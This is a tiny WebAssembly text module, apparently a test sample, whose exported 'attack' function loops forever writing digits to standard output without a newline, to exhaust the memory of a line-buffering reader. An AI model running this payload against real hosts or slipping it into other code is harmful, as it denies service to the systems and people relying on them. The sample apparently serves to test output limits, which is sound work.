;; Aims at the memory of whoever waits for the end of a line: prints a line that never ends.
(module
  (import "wasi_snapshot_preview1" "fd_write" (func $write (param i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 0) "\10\00\00\00\0a\00\00\00") (data (i32.const 16) "0123456789")
  (func (export "attack") (result i64)
    (loop $again (drop (call $write (i32.const 1) (i32.const 0) (i32.const 1) (i32.const 8))) (br $again))
    (unreachable)))
